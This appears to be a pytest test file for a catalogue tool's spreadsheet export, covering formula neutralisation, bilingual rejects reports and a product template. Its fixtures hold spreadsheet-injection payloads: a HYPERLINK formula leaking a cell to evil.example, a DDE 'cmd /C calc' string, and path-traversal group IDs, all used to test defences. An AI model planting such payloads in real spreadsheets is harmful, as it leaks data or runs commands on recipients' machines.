"""Spreadsheets written back to groups: formula neutralisation, rejects reports, the blank template."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from connectors.sheets import (
    CATEGORY_SHEET,
    INSTRUCTIONS_SHEET,
    NO_REJECTS,
    PROBLEM_HEADERS,
    PROBLEMS_SHEET,
    PRODUCT_SHEET,
    REASON_HEADER,
    SUMMARY_SHEET,
    TEMPLATE_HEADERS,
    rejects_frame,
    safe_frame,
    safe_text,
    write_csv,
    write_rejects_report,
    write_template,
    write_xlsx,
)
from connectors.sheets.rejects import CELL_REJECT_FILL, CELL_WARNING_FILL
from connectors.sheets.template import HEADER_ROW, STOCK_DATE_CELL, STOCK_DATE_LABEL
from schemas.categories import DEFAULT_CATEGORIES
from schemas.listing import Reject

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+6281234567890",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS_MULTILINE = "Keripik pedas\n=bukan rumus di baris kedua"


def _sheet_xml(path, index: int) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def _fill(cell) -> str | None:
    color = cell.fill.fgColor.rgb if cell.fill is not None and cell.fill.fill_type == "solid" else None
    return color[-6:] if isinstance(color, str) else None


# --------------------------------------------------------------------------- safe_text / safe_frame

@pytest.mark.parametrize("value", HOSTILE)
def test_safe_text_prefixes_formula_starters(value):
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Keripik", "", " =spasi dulu", HARMLESS_MULTILINE, 15000, 2.5, None])
def test_safe_text_leaves_other_values_alone(value):
    assert safe_text(value) is value


def test_safe_frame_neutralises_text_columns_and_labels_only():
    df = pd.DataFrame({
        "text": pd.Series(HOSTILE[:3] + ["ok"], dtype="str"),
        "mixed": pd.Series([1, "-3", None, "=A1"], dtype=object),
        "number": [-1, 2, 3, 4],
        "category": pd.Categorical(["@x", "y", "@x", "z"]),
        "=label": ["a", "b", "c", "d"],
    })
    out = safe_frame(df)
    assert list(out["text"]) == ["'" + v for v in HOSTILE[:3]] + ["ok"]
    assert list(out["mixed"])[:2] == [1, "'-3"] and pd.isna(out["mixed"][2]) and out["mixed"][3] == "'=A1"
    assert list(out["number"]) == [-1, 2, 3, 4] and out["number"].dtype == df["number"].dtype
    assert list(out["category"]) == ["'@x", "y", "'@x", "z"]
    assert "'=label" in out.columns
    assert df["text"][0] == HOSTILE[0], "the input frame is not modified"


def test_safe_frame_leaves_an_object_column_without_strings():
    df = pd.DataFrame({"n": pd.Series([1, 2, None], dtype=object)})
    assert safe_frame(df)["n"].tolist()[:2] == [1, 2]


# --------------------------------------------------------------------------- write_xlsx / write_csv

@pytest.fixture
def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE) + 1
    return pd.DataFrame({
        "Nama": HOSTILE + [HARMLESS_MULTILINE],
        "Harga": [15000] * n,
        "Berat": [0.25] * n,
        "Jumlah": np.arange(n, dtype="int64"),
    })


def test_xlsx_hostile_text_reads_back_as_literal_string_cells(tmp_path, hostile_frame):
    path = write_xlsx(tmp_path / "o.xlsx", {"Pesanan": hostile_frame})
    ws = openpyxl.load_workbook(path)["Pesanan"]
    names = [ws.cell(row=r, column=1) for r in range(2, len(hostile_frame) + 2)]
    # XML hands a bare CR back as LF; the text stays inert either way
    assert [c.value for c in names] == [v.replace("\r", "\n") for v in HOSTILE] + [HARMLESS_MULTILINE]
    assert {c.data_type for c in names} == {"s"}
    # Shown as written, kept as text when edited: Excel's quote prefix (not a visible apostrophe).
    assert [c.quotePrefix for c in names] == [True] * len(HOSTILE) + [False]
    assert "<f>" not in _sheet_xml(path, 1), "no formula element may be written"


def test_xlsx_numbers_stay_numbers(tmp_path, hostile_frame):
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "o.xlsx", {"S": hostile_frame}))["S"]
    row = [ws.cell(row=2, column=c) for c in (2, 3, 4)]
    assert [c.value for c in row] == [15000, 0.25, 0]
    assert {c.data_type for c in row} == {"n"}


def test_xlsx_header_bold_frozen_and_sized(tmp_path):
    df = pd.DataFrame({"Nama Pembeli": ["Bu Siti Rahayu binti Ahmad Sulaiman"], "No": [1]})
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "o.xlsx", {"S": df}))["S"]
    assert ws["A1"].value == "Nama Pembeli" and ws["A1"].font.b
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width >= 4


def test_xlsx_drops_control_characters_xml_cannot_hold(tmp_path):
    df = pd.DataFrame({"Nama": ["Kopi\x01 Dieng", "ok"]})
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "o.xlsx", {"S": df}))["S"]
    assert ws["A2"].value == "Kopi Dieng"


def test_xlsx_timezone_aware_dates_keep_their_wall_time(tmp_path):
    df = pd.DataFrame({"Waktu": pd.to_datetime(["2026-11-20 08:30"]).tz_localize("Asia/Jakarta")})
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "o.xlsx", {"S": df}))["S"]
    assert ws["A2"].value == pd.Timestamp("2026-11-20 08:30").to_pydatetime()


def test_csv_has_bom_comma_and_inert_text(tmp_path, hostile_frame):
    path = write_csv(tmp_path / "o.csv", hostile_frame)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Nama", "Harga", "Berat", "Jumlah"]
    # A CSV also guards what follows a line break or a separator (a reader ignoring the quotes
    # would start a cell there); every field is quoted.
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["'" + HARMLESS_MULTILINE]
    assert raw.decode("utf-8-sig").startswith('"Nama","Harga","Berat","Jumlah"')
    assert rows[1][1:] == ["15000", "0.25", "0"]


# --------------------------------------------------------------------------- rejects report

GRID = pd.DataFrame([
    ["Katalog Produk KWT Sekar Carica", None, None, None],
    [None, None, None, None],
    ["Nama Produk", "Harga", "Stok", "Foto 1"],
    ["Manisan Carica", "25000", "40", "https://img.example/a.jpg"],
    ["Keripik Kentang", "nego", "-3", "https://img.example/b.jpg"],
    ['=HYPERLINK("http://evil.example","x")', "15000", "10", "https://img.example/c.jpg"],
    ["Kopi Dieng", "55000", "20", "https://img.example/d.jpg"],
])


def _problem(row, column, value, rid, ren, severity="reject"):
    return dict(group_id="wonosobo-sekar-carica", file="sekar-carica.xlsx", sheet="Produk", row=row,
                column=column, value=value, reason_id=rid, reason_en=ren, severity=severity)


@pytest.fixture
def rejects() -> pd.DataFrame:
    return pd.DataFrame([
        _problem(5, "Harga", "nego", "harga 'nego' bukan angka", "price 'nego' is not a number"),
        _problem(5, "Stok", "-3", "stok negatif", "negative stock"),
        _problem(6, "Nama Produk", GRID.iloc[5, 0], "nama berisi rumus", "name holds a formula"),
        _problem(7, "Foto 1", "https://img.example/d.jpg", "foto ke-6 dibuang", "sixth photo dropped", "warning"),
    ])


def test_rejects_report_annotates_the_groups_own_sheet(tmp_path, rejects):
    xlsx, _ = write_rejects_report(tmp_path, "wonosobo-sekar-carica", rejects, {"Produk": GRID}, {"Produk": 3})
    assert xlsx == tmp_path / "rejects" / "wonosobo-sekar-carica.xlsx"
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == [SUMMARY_SHEET, "Produk", PROBLEMS_SHEET]
    ws = wb["Produk"]
    assert ws["A1"].value == "Katalog Produk KWT Sekar Carica" and ws["B5"].value == "nego"
    assert ws["E3"].value == REASON_HEADER, "the reason column sits right of the last column, on the header row"
    assert ws["E2"].value is None and ws["E1"].value is None
    assert ws["E5"].value == ("Harga: harga 'nego' bukan angka / price 'nego' is not a number; "
                              "Stok: stok negatif / negative stock")
    assert ws["E4"].value is None
    assert {_fill(ws.cell(row=5, column=c)) for c in (1, 4, 5)} == {"FFC7CE"}, "the row, but its bad cells"
    assert {_fill(ws.cell(row=7, column=c)) for c in (1, 2, 3, 5)} == {"FFEB9C"}
    assert ws["E7"].value.startswith("Peringatan / Warning: Foto 1:")
    assert _fill(ws["A4"]) is None
    assert ws.freeze_panes == "A4"


def test_each_bad_cell_is_marked_with_its_reason_as_a_comment(tmp_path, rejects):
    xlsx, _ = write_rejects_report(tmp_path, "g1", rejects, {"Produk": GRID}, {"Produk": 3})
    ws = openpyxl.load_workbook(xlsx)["Produk"]
    marked = {c.coordinate for row in ws.iter_rows() for c in row if c.comment is not None}
    assert marked == {"B5", "C5", "A6", "D7"}, "row 5's two problems mark two cells; nothing else is marked"
    price, stock = ws["B5"], ws["C5"]
    assert price.value == "nego" and _fill(price) == _fill(stock) == CELL_REJECT_FILL.fgColor.rgb[-6:]
    assert price.comment.text == "harga 'nego' bukan angka\nprice 'nego' is not a number"
    assert stock.comment.text == "stok negatif\nnegative stock" and stock.comment.author == "Lapak Desa"
    assert _fill(price) not in {"FFC7CE", "FFEB9C"}, "the cell stands out from its row"
    photo = ws["D7"]
    assert _fill(photo) == CELL_WARNING_FILL.fgColor.rgb[-6:] != _fill(price), "a warning's cell is lighter"
    assert photo.comment.text == "Peringatan: foto ke-6 dibuang\nWarning: sixth photo dropped"
    assert ws["A6"].value == GRID.iloc[5, 0] and ws["A6"].quotePrefix, "a marked hostile cell stays inert"


def test_a_problem_about_a_missing_column_keeps_only_the_row_mark(tmp_path):
    missing = pd.DataFrame([_problem(4, "Berat", "", "kolom berat tidak ada", "no weight column"),
                            _problem(4, "", "", "baris ganda", "duplicate row"),
                            _problem(5, " harga ", "nego", "harga bukan angka", "price is not a number")])
    xlsx, _ = write_rejects_report(tmp_path, "g1", missing, {"Produk": GRID}, {"Produk": 3})
    ws = openpyxl.load_workbook(xlsx)["Produk"]
    assert {_fill(c) for c in ws[4]} == {"FFC7CE"} and all(c.comment is None for c in ws[4])
    assert ws["E4"].value.startswith("Berat: kolom berat tidak ada"), "the reason is still beside the row"
    assert ws["B5"].comment.text.startswith("harga bukan angka"), "the header matched despite case and spaces"


def test_rejects_report_keeps_a_hostile_value_as_written_inert(tmp_path, rejects):
    xlsx, csv_path = write_rejects_report(tmp_path, "g1", rejects, {"Produk": GRID}, {"Produk": 3})
    wb = openpyxl.load_workbook(xlsx)
    hostile = GRID.iloc[5, 0]
    cell = wb["Produk"]["A6"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True)
    problems = wb[PROBLEMS_SHEET]
    shown = {c.value: c.quotePrefix for c in problems["F"]}
    assert shown[hostile] is True and shown["-3"] is True
    for i in range(1, len(wb.sheetnames) + 1):
        assert "<f>" not in _sheet_xml(xlsx, i)
    with csv_path.open(encoding="utf-8-sig", newline="") as f:
        assert "'" + hostile in [ln["Nilai tertulis / Value as written"] for ln in csv.DictReader(f)]


def test_rejects_report_problem_lines_and_summary_counts(tmp_path, rejects):
    xlsx, csv_path = write_rejects_report(tmp_path, "g1", rejects, {"Produk": GRID}, {"Produk": 3})
    with csv_path.open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.DictReader(f))
    assert list(lines[0]) == list(PROBLEM_HEADERS.values())
    assert "Lembar / Sheet" in lines[0] and "Baris / Row" in lines[0] and "Reason (EN)" in lines[0]
    assert len(lines) == 4, "one line per problem, two for row 5"
    assert [ln["Baris / Row"] for ln in lines] == ["5", "5", "6", "7"]
    assert lines[-1]["Jenis / Severity"] == "peringatan / warning"

    wb = openpyxl.load_workbook(xlsx)
    problems = wb[PROBLEMS_SHEET]
    assert [c.value for c in problems[1]] == list(PROBLEM_HEADERS.values())
    assert problems.max_row == 5 and problems["D2"].value == 5 and problems["D2"].data_type == "n"
    summary = {r[0]: r[1] for r in wb[SUMMARY_SHEET].iter_rows(values_only=True) if r and r[0]}
    assert summary["Baris ditolak / Rows rejected"] == 2
    assert summary["Baris dengan peringatan saja / Rows with warnings only"] == 1
    assert summary["Jumlah masalah / Problems"] == 4
    assert summary["Harga"] == 1 and summary["Stok"] == 1


def test_rejects_report_without_grids_has_summary_and_problems_only(tmp_path, rejects):
    xlsx, _ = write_rejects_report(tmp_path, "g1", rejects, None, None)
    assert openpyxl.load_workbook(xlsx).sheetnames == [SUMMARY_SHEET, PROBLEMS_SHEET]


def test_empty_rejects_still_write_both_files(tmp_path):
    empty = pd.DataFrame(columns=["group_id", "file", "sheet", "row", "column", "value",
                                  "reason_id", "reason_en", "severity"])
    xlsx, csv_path = write_rejects_report(tmp_path, "g1", empty, {"Produk": GRID}, {"Produk": 3})
    assert xlsx.exists() and csv_path.exists()
    text = csv_path.read_text(encoding="utf-8-sig")
    assert "Tidak ada baris ditolak" in text and "No rejected rows" in text
    wb = openpyxl.load_workbook(xlsx)
    cells = [v for r in wb[SUMMARY_SHEET].iter_rows(values_only=True) for v in r]
    assert NO_REJECTS in cells
    assert wb["Produk"]["E3"].value == REASON_HEADER
    assert all(_fill(c) is None for row in wb["Produk"].iter_rows(min_row=4) for c in row)


def test_header_row_is_guessed_as_the_widest_early_row(tmp_path, rejects):
    xlsx, _ = write_rejects_report(tmp_path, "g1", rejects, {"Produk": GRID}, None)
    assert openpyxl.load_workbook(xlsx)["Produk"]["E3"].value == REASON_HEADER


def test_long_csv_sheet_names_are_shortened_for_excel(tmp_path):
    name = "katalog-anyaman-pandan-sari-dukuhdempok-2026"
    rej = pd.DataFrame([{**_problem(2, "Harga", "nego", "a", "b"), "sheet": name}])
    grid = pd.DataFrame([["Nama", "Harga"], ["Tas", "nego"]])
    xlsx, _ = write_rejects_report(tmp_path, "g1", rej, {name: grid}, {name: 1})
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames[1] == name[:31]
    assert wb[name[:31]]["C2"].value == "Harga: a / b"


def test_rejects_frame_from_reject_models():
    r = Reject(group_id="g1", file="f.csv", sheet="f", row=3, column="Stok", value="banyak",
               reason_id="stok bukan angka", reason_en="stock is not a number")
    df = rejects_frame([r])
    assert df.loc[0, "row"] == 3 and df.loc[0, "severity"] == "reject" and df.loc[0, "value"] == "banyak"


@pytest.mark.parametrize("bad", ["../evil", "a/b", "", ".."])
def test_group_id_cannot_escape_the_output_folder(tmp_path, bad, rejects):
    with pytest.raises(ValueError):
        write_rejects_report(tmp_path, bad, rejects, None, None)


# --------------------------------------------------------------------------- template

@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return openpyxl.load_workbook(write_template(tmp_path_factory.mktemp("t") / "templat.xlsx"))


def test_template_instructions_first_then_products_then_hidden_categories(template):
    assert template.sheetnames == [INSTRUCTIONS_SHEET, PRODUCT_SHEET, CATEGORY_SHEET]
    assert template[CATEGORY_SHEET].sheet_state == "hidden"
    assert template.active.title == INSTRUCTIONS_SHEET


def test_template_product_sheet_has_the_stock_date_line_then_headers_and_nothing_below(template):
    ws = template[PRODUCT_SHEET]
    assert HEADER_ROW == 2 and ws["A1"].value == STOCK_DATE_LABEL == "Stok per / Stock as of:"
    assert STOCK_DATE_CELL == "B1" and ws["B1"].value is None, "the date is the group's to write"
    assert ws["B1"].number_format == "DD/MM/YYYY" and ws["B1"].fill.fgColor.rgb.endswith("FFF2CC")
    assert [v for v in next(ws.iter_rows(min_row=1, max_row=1, values_only=True)) if v] == [STOCK_DATE_LABEL]
    headers = [c.value for c in ws[2]]
    assert headers == list(TEMPLATE_HEADERS)
    for h in ("No", "Nama Produk", "Kategori", "Harga (Rp)", "Stok", "Berat (gram)", "Deskripsi",
              "Foto 1", "Foto 5", "Kode/SKU", "Minimum Pemesanan", "Kondisi", "Varian", "No. PIRT"):
        assert h in headers
    assert ws.max_row == 2
    assert ws.freeze_panes == "A3"
    assert all(ws.column_dimensions[chr(65 + i)].width >= 8 for i in range(len(headers)))


def test_template_dropdowns_reference_every_leaf_on_the_hidden_sheet(template):
    ws = template[PRODUCT_SHEET]
    leaves = [c.name for c in DEFAULT_CATEGORIES if c.is_leaf]
    listed = [r[0] for r in template[CATEGORY_SHEET].iter_rows(values_only=True)]
    assert listed == leaves
    dvs = {str(dv.sqref).split(":")[0][0]: dv for dv in ws.data_validations.dataValidation}
    cat_col = chr(65 + TEMPLATE_HEADERS.index("Kategori"))
    cond_col = chr(65 + TEMPLATE_HEADERS.index("Kondisi"))
    assert dvs[cat_col].type == "list"
    assert dvs[cat_col].formula1 == f"={CATEGORY_SHEET}!$A$1:$A${len(leaves)}"
    assert str(dvs[cat_col].sqref).startswith(f"{cat_col}3:") and str(dvs[cond_col].sqref).startswith(f"{cond_col}3:")
    assert dvs[cond_col].formula1 == '"Baru,Bekas"'
    prompt = dvs["B"]  # the stock date cell: a prompt only, no value the reader could mistake for a date
    assert str(prompt.sqref) == STOCK_DATE_CELL and prompt.type is None and "20/11/2026" in prompt.prompt


def test_template_instructions_explain_every_column_in_both_languages(template):
    rows = list(template[INSTRUCTIONS_SHEET].iter_rows(values_only=True))
    explained = {r[0]: r for r in rows if r and r[0] in TEMPLATE_HEADERS}
    assert set(explained) == set(TEMPLATE_HEADERS)
    assert explained["Nama Produk"][1].startswith("Wajib") and explained["Deskripsi"][1].startswith("Tidak")
    assert "https://" in explained["Foto 1"][2] and "https://" in explained["Foto 1"][3]
    assert "ons" in explained["Berat (gram)"][2] and "15rb" in explained["Harga (Rp)"][2]
    text = " ".join(str(v) for r in rows for v in r if v)
    assert "Daftar kategori / Category list" in text and "Masker Kain" in text


def test_template_instructions_explain_the_stock_date_line(template):
    lines = [r[0] for r in template[INSTRUCTIONS_SHEET].iter_rows(values_only=True) if r and r[0]]
    stock = [line for line in lines if str(line).startswith("Tanggal stok")]
    assert len(stock) == 1, lines[:6]
    text = stock[0]
    assert f"sel {STOCK_DATE_CELL}" in text and f"in cell {STOCK_DATE_CELL}" in text and STOCK_DATE_LABEL in text
    assert "00.00 WIB" in text and "00:00 WIB" in text and "belum tiba" in text and "still to come" in text
    assert any("mulai baris 3" in str(line) and "from row 3" in str(line) for line in lines)


def _filled_template(path, stock_date):
    """The template as a group fills it: the stock date in its cell, two products below the header."""
    wb = openpyxl.load_workbook(write_template(path))
    ws = wb[PRODUCT_SHEET]
    ws[STOCK_DATE_CELL] = stock_date
    col = {h: i for i, h in enumerate(TEMPLATE_HEADERS, start=1)}
    for r, (name, cat, price) in enumerate([("Keripik Tempe", "Keripik", "Rp 15.000"),
                                            ("Keripik Pisang Kepok", "Keripik", "15rb")], start=HEADER_ROW + 1):
        for header, value in (("Nama Produk", name), ("Kategori", cat), ("Harga (Rp)", price), ("Stok", 40),
                              ("Berat (gram)", 250), ("Foto 1", f"https://img.example/{r}.jpg")):
            ws.cell(r, col[header], value)
    wb.save(path)
    return path


@pytest.mark.parametrize("written, day", [
    (dt.datetime(2026, 11, 18), (2026, 11, 18)),  # a date cell, as Excel keeps a typed date
    ("20 November 2026", (2026, 11, 20)),
    ("03/11/2026", (2026, 11, 3)),  # day first
])
def test_the_stock_date_written_in_the_template_is_read_as_when_stock_was_counted(tmp_path, written, day):
    from connectors.catalogue import read_catalogue
    from flows.engine.check import check_file
    from flows.engine.intake import stock_as_of_text

    path = _filled_template(tmp_path / "katalog.xlsx", written)
    raw = read_catalogue(path)
    assert raw.recorded_on is not None and raw.recorded_on.on == dt.date(*day)
    assert raw.recorded_on.where() == "Produk!A1" and raw.recorded_on.text == STOCK_DATE_LABEL
    assert raw.header_rows == {PRODUCT_SHEET: HEADER_ROW}
    assert raw.frame[["sheet", "row"]].values.tolist() == [[PRODUCT_SHEET, 3], [PRODUCT_SHEET, 4]]

    checked = check_file(path, None, tmp_path / "out")  # through the whole check: used, not warned about
    assert len(checked.result.listings) == 2 and checked.result.rejected_rows == 0 and checked.result.warnings == 0
    assert stock_as_of_text(checked.raw.recorded_on).startswith(f"{day[2]} ")


def test_a_template_whose_stock_date_is_left_empty_or_still_to_come_states_none(tmp_path):
    from connectors.catalogue import read_catalogue
    from flows.engine.check import check_file

    assert read_catalogue(_filled_template(tmp_path / "kosong.xlsx", None)).recorded_on is None
    later = dt.datetime.now() + dt.timedelta(days=30)
    checked = check_file(_filled_template(tmp_path / "nanti.xlsx", later), None, tmp_path / "out")
    assert checked.raw.recorded_on is None and checked.result.warnings == 1
    warned = checked.result.rejects.iloc[0]
    assert (warned["sheet"], warned["row"], warned["column"]) == (PRODUCT_SHEET, 1, "A")
    assert "belum tiba" in warned["reason_id"] and "has not come yet" in warned["reason_en"]
